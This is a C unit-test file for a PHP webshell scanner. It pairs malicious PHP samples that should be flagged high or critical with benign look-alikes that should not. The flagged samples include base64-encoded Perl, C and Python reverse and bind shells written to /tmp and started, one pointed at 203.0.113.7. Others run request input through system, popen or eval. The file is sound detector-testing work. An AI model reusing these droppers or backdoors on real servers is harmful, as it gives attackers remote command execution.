/* The webhigh round (branch webhigh): webshells found only by medium
 * indicators whose flow the PHP layer now proves. A decoded program that is
 * a bind or back-connect shell, written and started
 * (php.dropped_network_shell); a helper the file calls but does not define
 * given a name and an encoded program (the writer of the shell a fragment
 * was cut from); a global never assigned in a file that runs commands
 * (register_globals). Variants of our own and look-alikes that stay below
 * high. The base64 payloads are short programs written for these tests. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "php_expect.h"

static void test_dropped_network_shell(void **state)
{
	(void)state;
	expect(
	    "<?php $p = "
	    "'dXNlIElPOjpTb2NrZXQ6OklORVQ7IG15ICRzID0gSU86OlNvY2tldDo6SU5FVC0+bmV3KFBlZXJBZGRyID0+"
	    "ICRBUkdWWzBdLCBQZWVyUG9ydCA9PiAkQVJHVlsxXSk7Cm9wZW4oU1RESU4sICc+"
	    "JicsICRzKTsgb3BlbihTVERPVVQsICc+JicsICRzKTsgb3BlbihTVERFUlIsICc+"
	    "JicsICRzKTsgZXhlYygnL2Jpbi9zaCAtaScpOwo=';\n"
	    "file_put_contents('/tmp/.sess_9', base64_decode($p));\n"
	    "exec('perl /tmp/.sess_9 > /dev/null 2>&1 &');",
	    "php.dropped_network_shell", HS_SEV_HIGH);
	expect("<?php $src = "
	       "\"I2luY2x1ZGUgPHN5cy9zb2NrZXQuaD4KI2luY2x1ZGUgPG5ldGluZXQvaW4uaD4KaW50IG1haW4oaW50I"
	       "GMsIGNoYXIgKip2KSB7IGludCBzID0gc29ja2V0KDIsIDEsIDApOwpzdHJ1Y3Qgc29ja2FkZHJfaW4gYSA9"
	       "IHswfTsgYS5zaW5fZmFtaWx5ID0gMjsgYS5zaW5fcG9ydCA9IGh0b25zKGF0b2kodlsxXSkpOwpiaW5kKHM"
	       "sICh2b2lkICopJmEsIHNpemVvZiBhKTsgbGlzdGVuKHMsIDEpOyBpbnQgayA9IGFjY2VwdChzLCAwLCAwKT"
	       "sKZHVwMihrLCAwKTsgZHVwMihrLCAxKTsgZHVwMihrLCAyKTsgZXhlY2woIi9iaW4vYmFzaCIsICJiYXNoI"
	       "iwgMCk7IH0K\";\n"
	       "$h = fopen('/tmp/ud.c', 'w'); fwrite($h, base64_decode($src)); fclose($h);\n"
	       "system('gcc -o /tmp/ud /tmp/ud.c'); system('/tmp/ud 4444 &');",
	       "php.dropped_network_shell", HS_SEV_HIGH);
	expect("<?php function put_it($f, $d) { $o = @fopen($f, 'wb'); @fwrite($o, "
	       "base64_decode($d)); @fclose($o); }\n"
	       "$r = "
	       "'IyEvdXNyL2Jpbi9lbnYgcHl0aG9uMwppbXBvcnQgc29ja2V0LCBvcywgc3lzCmsgPSBzb2NrZXQuc29ja2"
	       "V0KCk7IGsuY29ubmVjdCgoc3lzLmFyZ3ZbMV0sIGludChzeXMuYXJndlsyXSkpKQpmb3IgZCBpbiAoMCwgM"
	       "SwgMik6IG9zLmR1cDIoay5maWxlbm8oKSwgZCkKb3MuZXhlY3YoJy9iaW4vc2gnLCBbJ3NoJ10pCg==';\n"
	       "put_it('/var/tmp/r.py', $r);\n"
	       "$o = shell_exec('python3 /var/tmp/r.py 203.0.113.7 8080');",
	       "php.dropped_network_shell", HS_SEV_HIGH);
	expect("<?php function dump($n, $t) { $w = fopen($n, 'w'); fputs($w, base64_decode($t)); "
	       "fclose($w); }\n"
	       "$x = "
	       "'ZjBWTVJnSUJBUUFBQUFBQUFBQUFBSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYV"
	       "c0dmMyZ2diR2xpWXk1emJ5NDJJSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYVc0d"
	       "mMyZ2diR2xpWXk1emJ5NDJJSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYVc0dmMy"
	       "Z2diR2xpWXk1emJ5NDJJSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYVc0dmMyZ2d"
	       "iR2xpWXk1emJ5NDJJQT09';\n"
	       "dump('sv', $x); passthru('chmod 700 sv; ./sv');",
	       "php.dropped_network_shell", HS_SEV_HIGH);
}

static void test_dropped_program_lookalikes(void **state)
{
	(void)state;
	not_high("<?php $s = "
	         "'IyEvYmluL3NoCiMgbmlnaHRseSBhcmNoaXZlIG9mIHRoZSB1cGxvYWRzIGRpcmVjdG9yeQp0YXIgY3pm"
	         "IC92YXIvYmFja3Vwcy91cC0kKGRhdGUgKyVGKS50Z3ogdXBsb2FkcwpmaW5kIC92YXIvYmFja3VwcyAtb"
	         "mFtZSAndXAtKi50Z3onIC1tdGltZSArMTQgLWRlbGV0ZQo=';\n"
	         "file_put_contents('/tmp/arch.sh', base64_decode($s));\n"
	         "exec('sh /tmp/arch.sh');");
	not_high("<?php $s = "
	         "'IyEvdXNyL2Jpbi9lbnYgcHl0aG9uMwppbXBvcnQgc29ja2V0CnMgPSBzb2NrZXQuY3JlYXRlX2Nvbm5l"
	         "Y3Rpb24oKCcxMjcuMC4wLjEnLCAxMTIxMSksIDIpCnMuc2VuZGFsbChiJ3N0YXRzXHJcbicpOyBwcmlud"
	         "ChzLnJlY3YoNDA5NikuZGVjb2RlKCkpCg==';\n"
	         "file_put_contents(__DIR__ . '/probe.py', base64_decode($s));\n"
	         "echo shell_exec('python3 ' . escapeshellarg(__DIR__ . '/probe.py'));");
	not_high(
	    "<?php $s = "
	    "'dXNlIElPOjpTb2NrZXQ6OklORVQ7IG15ICRzID0gSU86OlNvY2tldDo6SU5FVC0+bmV3KFBlZXJBZGRyID0+"
	    "ICRBUkdWWzBdLCBQZWVyUG9ydCA9PiAkQVJHVlsxXSk7Cm9wZW4oU1RESU4sICc+"
	    "JicsICRzKTsgb3BlbihTVERPVVQsICc+JicsICRzKTsgb3BlbihTVERFUlIsICc+"
	    "JicsICRzKTsgZXhlYygnL2Jpbi9zaCAtaScpOwo=';\n"
	    "file_put_contents(__DIR__ . '/cache/tail.pl', base64_decode($s));");
}

static void test_undefined_writer(void **state)
{
	(void)state;
	expect("<?php $bin = "
	       "'ZjBWTVJnSUJBUUFBQUFBQUFBQUFBSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYV"
	       "c0dmMyZ2diR2xpWXk1emJ5NDJJSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYVc0d"
	       "mMyZ2diR2xpWXk1emJ5NDJJSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYVc0dmMy"
	       "Z2diR2xpWXk1emJ5NDJJSE52WTJ0bGRDQmpiMjV1WldOMElHUjFjRElnWlhobFkzWmxJQzlpYVc0dmMyZ2d"
	       "iR2xpWXk1emJ5NDJJQT09';\n"
	       "wr('bk', $bin);\n"
	       "shell_exec('chmod +x bk; ./bk ' . $_GET['h'] . ' 80 &');",
	       "php.dropped_program_input", HS_SEV_HIGH);
	expect(
	    "<?php $pl = "
	    "\"ZFhObElFbFBPanBUYjJOclpYUTZPa2xPUlZRN0lHMTVJQ1J6SUQwZ1NVODZPbE52WTJ0bGREbzZTVTVGVkMw"
	    "K2JtVjNLRkJsWlhKQlpHUnlJRDArSUNSQlVrZFdXekJkTENCUVpXVnlVRzl5ZENBOVBpQWtRVkpIVmxzeFhTaz"
	    "dDbTl3Wlc0b1UxUkVTVTRzSUNjK0ppY3NJQ1J6S1RzZ2IzQmxiaWhUVkVSUFZWUXNJQ2MrSmljc0lDUnpLVHNn"
	    "YjNCbGJpaFRWRVJGVWxJc0lDYytKaWNzSUNSektUc2daWGhsWXlnbkwySnBiaTl6YUNBdGFTY3BPd289\";\n"
	    "save_file('/tmp/.cache.pl', $pl);\n"
	    "system('perl /tmp/.cache.pl ' . $_POST['ip'] . ' ' . $_POST['port']);",
	    "php.dropped_program_input", HS_SEV_HIGH);
	expect(
	    "<?php $c = "
	    "'I2luY2x1ZGUgPHN5cy9zb2NrZXQuaD4KI2luY2x1ZGUgPG5ldGluZXQvaW4uaD4KaW50IG1haW4oaW50IGMsI"
	    "GNoYXIgKip2KSB7IGludCBzID0gc29ja2V0KDIsIDEsIDApOwpzdHJ1Y3Qgc29ja2FkZHJfaW4gYSA9IHswfTs"
	    "gYS5zaW5fZmFtaWx5ID0gMjsgYS5zaW5fcG9ydCA9IGh0b25zKGF0b2kodlsxXSkpOwpiaW5kKHMsICh2b2lkI"
	    "CopJmEsIHNpemVvZiBhKTsgbGlzdGVuKHMsIDEpOyBpbnQgayA9IGFjY2VwdChzLCAwLCAwKTsKZHVwMihrLCA"
	    "wKTsgZHVwMihrLCAxKTsgZHVwMihrLCAyKTsgZXhlY2woIi9iaW4vYmFzaCIsICJiYXNoIiwgMCk7IH0K';\n"
	    "mk('/tmp/b.c', $c);\n"
	    "$r = popen('gcc -o /tmp/b /tmp/b.c && /tmp/b 31337', 'r');",
	    "php.dropped_network_shell", HS_SEV_HIGH);
}

static void test_undefined_writer_lookalikes(void **state)
{
	(void)state;
	not_high(
	    "<?php $img = "
	    "'iVBORw0KGgpJSERSeHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4e"
	    "Hh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh"
	    "4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4e"
	    "Hh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh"
	    "4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4';\n"
	    "store_asset('logo.png', $img);\n"
	    "exec('convert logo.png -resize 50% ' . escapeshellarg($_GET['o']));");
	quiet(
	    "<?php $img = "
	    "'iVBORw0KGgpJSERSeHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4e"
	    "Hh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh"
	    "4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4e"
	    "Hh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh"
	    "4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4';\n"
	    "store_asset('logo.png', $img); echo 'ok';");
}

static void test_never_assigned_command(void **state)
{
	(void)state;
	expect("<?php\n"
	       "function run_it($c) { if (function_exists('passthru')) { passthru($c); } elseif "
	       "(function_exists('system')) { system($c); } }\n"
	       "if ($q) { echo '<pre>'; run_it($q); echo '</pre>'; }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
	       "$p = proc_open('cmd.exe', $spec, $pp);\n"
	       "fwrite($pp[0], $line . \"\\r\\n\"); echo stream_get_contents($pp[1]);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "if (is_callable('shell_exec')) { $out = shell_exec($c2 . ' 2>&1'); } else { $out = "
	       "'disabled'; }\n"
	       "echo nl2br(htmlspecialchars($out));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $h = popen('/bin/sh', 'w');\n"
	       "fputs($h, $q . \"\\n\"); pclose($h);",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

static void test_never_assigned_lookalikes(void **state)
{
	(void)state;
	not_high("<?php echo '<pre>'; passthru($report_cmd); echo '</pre>';");
	not_high("<?php if (function_exists('exec')) { exec('/usr/bin/lsb_release -d', $r); } echo "
	         "$r[0] ?? $fallback;");
	quiet("<?php exec('uptime', $lines); foreach ($lines as $l) { echo htmlspecialchars($l), "
	      "\"<br>\"; }");
	not_high("<?php list($prog, $flag) = explode(' ', 'df -h'); exec(escapeshellcmd($prog) . ' "
	         "' . $flag, $o); echo implode(\"\\n\", $o);");
	not_high("<?php require __DIR__ . '/config.php';\n"
	         "echo shell_exec($php_bin . ' -v');");
	not_high(
	    "<?php function disk($dir) { return shell_exec('du -sh ' . escapeshellarg($dir)); }\n"
	    "echo disk('/var/www');");
	not_high("<?php extract($defaults); $r = exec($probe_cmd);");
}

static void test_autoload_from_input(void **state)
{
	(void)state;
	expect("<?php spl_autoload_register(function ($n) { eval(str_rot13($n)); });\n"
	       "$c = $_COOKIE['x'];\n"
	       "$o = new $c;",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php function ld($c) { include 'data:text/plain;base64,' . $c; }\n"
	       "spl_autoload_register('ld');\n"
	       "$k = $_POST['k']; $obj = new $k();",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php spl_autoload_register(fn($c) => eval(base64_decode(strrev($c))));\n"
	       "new ($_SERVER['HTTP_X_K'] ?? 'Dflt')();",
	       "php.input_to_eval", HS_SEV_CRITICAL);
}

static void test_autoload_lookalikes(void **state)
{
	(void)state;
	not_high("<?php spl_autoload_register(function ($c) { $f = __DIR__ . '/src/' . "
	         "str_replace('\\\\', '/', $c) . '.php'; if (is_file($f)) { require $f; } });\n"
	         "$ctl = 'App\\\\Ctl\\\\' . ucfirst(preg_replace('/[^a-z]/', '', $_GET['p'] ?? "
	         "'home'));\n"
	         "$page = new $ctl(); $page->render();");
	quiet("<?php spl_autoload_register(function ($c) { require __DIR__ . '/lib/' . $c . "
	      "'.php'; });\n"
	      "$m = new Mailer(); $m->queue('weekly');");
}

static void test_database_payload(void **state)
{
	(void)state;
	expect("<?php $db = new PDO($dsn, $user, $pass);\n"
	       "$row = $db->query('SELECT v FROM cfg WHERE k = 7')->fetch(PDO::FETCH_ASSOC);\n"
	       "eval(gzinflate(base64_decode($row['v'])));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php global $wpdb;\n"
	       "$c = $wpdb->get_var(\"SELECT option_value FROM {$wpdb->options} WHERE option_name "
	       "= 'x_cache'\");\n"
	       "if ($c) { eval(base64_decode($c)); }",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php $r = mysqli_query($link, 'SELECT body FROM snippets LIMIT 1');\n"
	       "$a = mysqli_fetch_assoc($r);\n"
	       "$j = json_decode($a['body'], true); eval(str_rot13(base64_decode($j['c'])));",
	       "php.decoded_file_eval", HS_SEV_HIGH);
}

static void test_database_lookalikes(void **state)
{
	(void)state;
	not_high("<?php $tpl = $pdo->query('SELECT source FROM templates WHERE id = "
	         "3')->fetchColumn();\n"
	         "eval('?>' . $tpl);");
	quiet("<?php $v = $wpdb->get_var(\"SELECT option_value FROM {$wpdb->options} WHERE "
	      "option_name = 'widget_cfg'\");\n"
	      "$cfg = json_decode(base64_decode($v), true); echo esc_html($cfg['title'] ?? '');");
}

static void test_extract_overwrites(void **state)
{
	(void)state;
	expect("<?php $cmd = 'date'; extract($_POST);\n"
	       "echo '<pre>' . shell_exec($cmd) . '</pre>';",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $cb = 'trim'; $arg = '';\n"
	       "extract(array_intersect_key($_GET, ['cb' => 1, 'arg' => 1]));\n"
	       "$r = compact('cb', 'arg'); echo call_user_func_array($r['cb'], [$r['arg']]);",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php function h() { $f = 'strtoupper'; $v = 'x'; extract($_COOKIE); return "
	       "$f($v); }\n"
	       "echo h();",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
}

static void test_extract_lookalikes(void **state)
{
	(void)state;
	quiet("<?php $title = 'Home'; extract($_GET, EXTR_SKIP); echo htmlspecialchars($title);");
	not_high(
	    "<?php $bin = '/usr/bin/identify'; extract($_POST, EXTR_PREFIX_ALL, 'p');\n"
	    "exec($bin . ' ' . escapeshellarg($p_file ?? 'none'), $o); echo implode(\"\\n\", $o);");
	quiet("<?php function sc($atts) { $atts = shortcode_atts(array('id' => 0, 'cls' => 'box'), "
	      "$atts); extract($atts);\n"
	      "return '<div class=\"' . esc_attr($cls) . '\">' . (int) $id . '</div>'; }\n"
	      "add_shortcode('box', 'sc');");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_dropped_network_shell),
	    cmocka_unit_test(test_dropped_program_lookalikes),
	    cmocka_unit_test(test_undefined_writer),
	    cmocka_unit_test(test_undefined_writer_lookalikes),
	    cmocka_unit_test(test_never_assigned_command),
	    cmocka_unit_test(test_never_assigned_lookalikes),
	    cmocka_unit_test(test_autoload_from_input),
	    cmocka_unit_test(test_autoload_lookalikes),
	    cmocka_unit_test(test_database_payload),
	    cmocka_unit_test(test_database_lookalikes),
	    cmocka_unit_test(test_extract_overwrites),
	    cmocka_unit_test(test_extract_lookalikes),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
